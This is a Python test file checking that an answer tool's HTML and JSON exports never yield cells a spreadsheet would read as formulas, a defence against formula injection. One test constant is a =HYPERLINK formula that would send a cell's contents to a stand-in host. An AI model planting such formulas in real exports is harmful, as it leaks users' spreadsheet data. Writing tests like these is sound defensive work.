"""A page opened in a spreadsheet: each block of it begins a cell there, and no cell is a formula.

That LibreOffice Calc makes cells so, and of these exports no formula, `benchmarks/spreadsheets.py` shows.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from answer.exports.as_html import answer_as_html, check_as_html
from answer.exports.as_json import export_as_json
from answer.exports.embedded_receipts import read_receipts
from answer.exports.export import export
from answer.exports.shown_quotes import body_of
from answer.records import Answer, Check, Verdict
from ingest.folder import Skipped
from tests.answer.exports.test_export import AT, FRONT, SIGNS, answer, begins_as_a_formula
from tests.answer.test_check_exports import checked, claim, finding

INLINE = {"a", "mark", "span"}
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak"&A1;"open")'


class Cells(HTMLParser):
    """The words of each cell that a spreadsheet makes of a page; `seen` is what a browser shows of all of it."""

    def __init__(self) -> None:
        super().__init__()
        self.cells = [""]
        self.seen = ""
        self._unseen = False
        self._styling = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._unseen = ("class", "unseen") in attrs
        self._styling = tag in {"style", "title"}
        if tag not in INLINE:
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        self.handle_starttag(tag, [])
        self._styling = False

    def handle_data(self, data: str) -> None:
        if not self._styling:
            self.cells[-1] += data
            self.seen += "" if self._unseen else data


def formulas(page: str) -> list[str]:
    """The cells that begin with a sign, whatever of a cell's start a spreadsheet drops."""
    return [cell for cell in cells(page).cells if begins_as_a_formula(cell)]


def cells(page: str) -> Cells:
    parser = Cells()
    parser.feed(page)
    return parser


def hostile_answer(words: str) -> Answer:
    made = answer(words, words)
    lanes = tuple(replace(lane, kind=words) for lane in made.lanes)
    return replace(made, lanes=lanes, summary=words, skipped=(Skipped(words, words),))


def hostile_check(words: str) -> Check:
    made = claim(words, 0, finding(words, Verdict.DIFFERS, words))
    return checked(replace(made, summary=words), claim(words, 20, finding(words, Verdict.NOT_FOUND)))


@given(st.sampled_from(FRONT), st.sampled_from(SIGNS), st.text(max_size=20))
def test_no_block_of_a_page_begins_as_a_formula(front: str, sign: str, text: str) -> None:
    words = f"{front}{sign}{text}"

    assert formulas(answer_as_html(hostile_answer(words), at=AT)) == []
    assert formulas(check_as_html(hostile_check(words), at=AT)) == []


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@given(st.sampled_from(FRONT), st.sampled_from(SIGNS), st.text(max_size=20))
def test_no_cell_of_json_opened_as_a_table_begins_as_a_formula(
    separator: str, front: str, sign: str, text: str
) -> None:
    words = f"{front}{sign}{text}"
    for made in (hostile_answer(f"{words},{words};{words}"), hostile_check(f"{words},{words};{words}")):
        written = export(made, "json", at=AT)
        lines = csv.reader(io.StringIO(written, newline=""), delimiter=separator)

        assert [cell for line in lines for cell in line if begins_as_a_formula(cell)] == []
        assert json.loads(written) == export_as_json(made, at=AT)


@pytest.mark.parametrize(
    "words", [FORMULA, f" {FORMULA}", "-5 degrees were measured.", "@council: the gate is shut.", "+1"]
)
def test_a_browser_shows_the_words_without_what_a_spreadsheet_needs(words: str) -> None:
    for page in (answer_as_html(answer(words, words), at=AT), check_as_html(hostile_check(words), at=AT)):
        assert words in cells(page).seen
        assert "'" not in cells(page).seen


@pytest.mark.parametrize("words", [FORMULA, "-5 degrees; -6 degrees; @all", '"=1+1" says the form'])
def test_a_page_whose_quotes_begin_with_a_sign_verifies(words: str) -> None:
    for page in (answer_as_html(answer(words, words), at=AT), check_as_html(hostile_check(words), at=AT)):
        body = body_of(page, read_receipts(page))

        assert body.shown > 0
        assert body.is_whole


def test_a_passage_whose_evidence_begins_with_a_sign_is_not_taken_for_a_formula() -> None:
    made = answer("\u200b=1+1")
    [hit] = made.lanes[0].hits
    inside = replace(hit, evidence=replace(hit.evidence, start=hit.start + 1))

    page = answer_as_html(replace(made, lanes=(replace(made.lanes[0], hits=(inside,)),)), at=AT)

    assert formulas(page) == []
    assert "\u200b=1+1" in cells(page).seen
